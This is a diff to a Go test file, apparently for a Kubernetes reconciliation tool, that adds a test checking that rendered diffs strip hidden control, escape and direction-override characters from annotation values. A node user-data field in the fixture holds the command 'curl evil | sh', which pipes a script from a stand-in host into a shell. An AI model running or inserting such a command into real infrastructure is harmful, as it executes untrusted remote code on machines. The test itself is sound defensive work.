@@ -9,6 +9,7 @@ import (
 	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
 	"k8s.io/apimachinery/pkg/util/intstr"
 
 	"github.com/plumbline-dev/plumbline/reconcile/api/v1alpha1"
@@ -182,5 +183,21 @@ func TestACommentHasAllThatIsWrong(t *testing.T) {
 	}
 	if strings.Contains(text, "hush") {
 		t.Errorf("a value of a Secret is told:\n%s", text)
+	}
+}
+
+// TestADiffHasWhatIsNotSeen written out, and all that stands beside it.
+func TestADiffHasWhatIsNotSeen(t *testing.T) {
+	for name, hidden := range map[string]string{"control": "\u009b", "delete": "\u007f", "escape": "\x1b[2J", "direction": "\u202e", "surrogates": "\U000e0001", "line": "\u2028"} {
+		t.Run(name, func(t *testing.T) {
+			after := &unstructured.Unstructured{Object: map[string]any{
+				"kind": "EC2NodeClass", "metadata": map[string]any{"name": "a", "annotations": map[string]any{"x": "a" + hidden + "b"}},
+				"spec": map[string]any{"userData": "curl evil | sh"},
+			}}
+			text := Diff("EC2NodeClass/a", "", nil, after)
+			if !strings.Contains(text, "+  userData: curl evil | sh\n") || strings.Contains(text, hidden) || !strings.Contains(text, "x: ") {
+				t.Errorf("%q", text)
+			}
+		})
 	}
 }
